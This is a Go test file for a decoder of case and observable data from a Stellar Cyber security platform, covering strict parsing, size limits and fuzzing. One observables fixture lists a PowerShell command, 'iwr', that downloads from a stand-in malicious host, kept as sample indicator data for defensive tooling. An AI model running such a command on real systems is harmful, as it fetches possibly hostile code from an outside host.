package stellarcyber

import (
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/mailru/easyjson/jlexer"
	"github.com/mailru/easyjson/jwriter"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sightline-sec/sightline/core/api"
)

// The sample of the vendor's page, all of its 21 fields.
func TestDecodeSample(t *testing.T) {
	t.Parallel()
	var answer casesAnswer
	require.NoError(t, api.Decode([]byte(fixture(t, "cases.json")), answer.UnmarshalEasyJSON, answer.check))
	assert.Equal(t, 139380, *answer.Data.Total)
	assert.Equal(t, []Case{{
		ID:             "655459dba3149258cd73014b",
		Acknowledged:   1700102364585,
		Assignee:       "e7fd8d407209477091862d3052bdcef8",
		Closed:         0,
		CreatedAt:      1700026843539,
		CreatedBy:      "System",
		TenantID:       "c7cc6762d8dd4dafa7384f4e0240fc8d",
		ModifiedAt:     1700102370220,
		ModifiedBy:     "418634d650954a5f87cb70ca44f34ced",
		Name:           "Cynet: Data Encrypted for Impact and 133 others",
		Score:          100,
		Size:           134,
		Status:         StatusInProgress,
		Severity:       SeverityCritical,
		Tags:           []string{},
		TicketID:       1667,
		Version:        138,
		CreatedByName:  "System",
		ModifiedByName: "adeng@sigma-rt.com",
		AssigneeName:   "0-root_user@123.com",
		TenantName:     "Rui",
	}}, answer.Data.Cases)
	assert.Equal(t, time.Date(2023, 11, 15, 5, 40, 43, 539e6, time.UTC), answer.Data.Cases[0].CreatedAt.Time())
	assert.True(t, Timestamp(0).Time().IsZero())
}

func TestDecodeKeepsUnknownFields(t *testing.T) {
	t.Parallel()
	var answer casesAnswer
	require.NoError(t, api.Decode([]byte(fixture(t, "cases-extra.json")), answer.UnmarshalEasyJSON, answer.check))
	got := answer.Data.Cases[0]
	assert.InDelta(t, 74.99999, got.Score, 1e-9)
	assert.Equal(t, []string{"vip", "lab"}, got.Tags)
	assert.Equal(t, []Field{
		{"start_timestamp", "1704099990000"},
		{"resolution", `"Benign"`},
		{"metadata", `{"a":[1,{"b":null}]}`},
	}, got.Extra)
}

func TestDecodeObservables(t *testing.T) {
	t.Parallel()
	var answer observablesAnswer
	require.NoError(t, api.Decode([]byte(fixture(t, "observables.json")), answer.UnmarshalEasyJSON, answer.check))
	assert.Equal(t, []Observable{
		{"hosts", "ip", "10.0.0.5"},
		{"hosts", "hostname", "fin-07"},
		{"users", "name", "jdoe"},
		{"processes", "name", "powershell.exe"},
		{"processes", "command_line", "powershell -c iwr http://bad.example/a"},
		{"files", "name", "a.exe"},
		{"files", "sha256", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
		{"external_hosts", "ip", "198.51.100.7"},
		{"external_hosts", "", "203.0.113.9"},
		{"urls", "", "http://bad.example/"},
	}, answer.Observables.values)
}

func TestDecodeObservablesOfAnyShape(t *testing.T) {
	t.Parallel()
	for body, want := range map[string][]Observable{
		`{"observables":{}}`: nil,
		`{"observables":[]}`: nil,
		`{"observables":{"urls":null,"n":[1,true,null,""]}}`:  nil,
		`{"observables":["192.0.2.7"]}`:                       {{"", "", "192.0.2.7"}},
		`{"observables":[{"type":"ip","value":"192.0.2.7"}]}`: {{"", "type", "ip"}, {"", "value", "192.0.2.7"}},
		`{"observables":{"urls":"http://a/"}}`:                {{"urls", "", "http://a/"}},
		`{"observables":{"h":{"x":[["a"],{"y":"b"}]}}}`:       {{"h", "x", "a"}, {"h", "y", "b"}},
	} {
		var answer observablesAnswer
		require.NoError(t, api.Decode([]byte(body), answer.UnmarshalEasyJSON, answer.check), body)
		assert.Equal(t, want, answer.Observables.values, body)
	}
	for _, body := range []string{
		``, `null`, `{}`, `[]`, `{"observables":null}`, `{"observables":"none"}`, `{"observables":7}`, `{"observables":false}`,
		`{"data":{"observables":{}}}`, `{"observables":{"urls":["http://a/"`, `{"observables":{"urls":["http://a/"]}} x`,
		`{"observables":{"urls":["a"}}}`, `{"observables":{"urls" ["a"]}}`, `{"observables":{1:["a"]}}`, "{\"observables\":[\"\xff\"]}",
		`{"observables":{"a":` + strings.Repeat("[", 20) + strings.Repeat("]", 20) + `}}`,
		`{"observables":` + strings.Repeat(`{"a":`, 100_000),
	} {
		var answer observablesAnswer
		require.Error(t, api.Decode([]byte(body), answer.UnmarshalEasyJSON, answer.check), body[:min(len(body), 80)])
	}
}

func TestDecodeObservablesBounds(t *testing.T) {
	t.Parallel()
	list := func(n int) []byte {
		body := []byte(`{"observables":{"urls":[`)
		for i := range n {
			body = append(strconv.AppendInt(append(body, '"'), int64(i), 10), '"', ',')
		}
		body[len(body)-1] = ']'
		return append(body, '}', '}')
	}
	var answer observablesAnswer
	require.NoError(t, api.Decode(list(maxObservables), answer.UnmarshalEasyJSON, answer.check))
	assert.Len(t, answer.Observables.values, maxObservables)
	require.ErrorIs(t, api.Decode(list(maxObservables+1), answer.UnmarshalEasyJSON, answer.check), errTooMany)
}

func TestDecodeCasesIsStrict(t *testing.T) {
	t.Parallel()
	for _, body := range []string{
		``, `null`, `[]`, `{}`, `{"data":null}`, `{"data":[]}`, `{"data":{}}`, `{"data":{"total":0}}`, `{"data":{"cases":[]}}`,
		`{"data":{"total":0,"cases":null}}`, `{"data":{"total":null,"cases":[]}}`, `{"data":{"total":"1","cases":[]}}`,
		`{"data":{"total":0,"cases":[{"_id":"a"}]}}`, `{"data":{"total":1,"cases":[{}]}}`, `{"data":{"total":1,"cases":[null]}}`,
		`{"data":{"total":1,"cases":[{"_id":7}]}}`, `{"data":{"total":1,"cases":[{"_id":"a","score":"high"}]}}`,
		`{"data":{"total":1,"cases":[{"_id":"a","tags":"vip"}]}}`, `{"data":{"total":1,"cases":[{"_id":"a","x":[1,}]}]}}`,
		`{"data":{"total":1,"cases":[{"_id":"a"`, `{"data":{"total":0,"cases":[]}}{}`, `<html>`, `{"error":"no"}`,
	} {
		var answer casesAnswer
		require.Error(t, api.Decode([]byte(body), answer.UnmarshalEasyJSON, answer.check), body)
	}
}

// The law: no input panics, and what was understood is understood in the same way
// after it is written again.
func FuzzDecode(f *testing.F) {
	entries, err := os.ReadDir(fixtures)
	require.NoError(f, err)
	for _, entry := range entries {
		f.Add([]byte(fixture(f, entry.Name())))
	}
	f.Add([]byte(`{"data":{"total":2,"cases":[{"_id":"a","\u0000x":{"a":[]},"x":"\ud800"},{"_id":"b","tags":[null]}]}}`))
	f.Add([]byte(`{"access_token":"a","exp":1e9}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, models := range [][2]interface {
			UnmarshalEasyJSON(in *jlexer.Lexer)
			check() error
			MarshalEasyJSON(w *jwriter.Writer)
		}{{new(casesAnswer), new(casesAnswer)}, {new(token), new(token)}} {
			if api.Decode(data, models[0].UnmarshalEasyJSON, models[0].check) != nil {
				continue
			}
			var w jwriter.Writer
			models[0].MarshalEasyJSON(&w)
			written, err := w.BuildBytes()
			require.NoError(t, err)
			require.NoError(t, api.Decode(written, models[1].UnmarshalEasyJSON, models[1].check), "%s", written)
			require.Equal(t, models[0], models[1])
		}
		var answer observablesAnswer
		if api.Decode(data, answer.UnmarshalEasyJSON, answer.check) == nil {
			for _, observable := range answer.Observables.values {
				require.NotEmpty(t, observable.Value)
			}
		}
	})
}
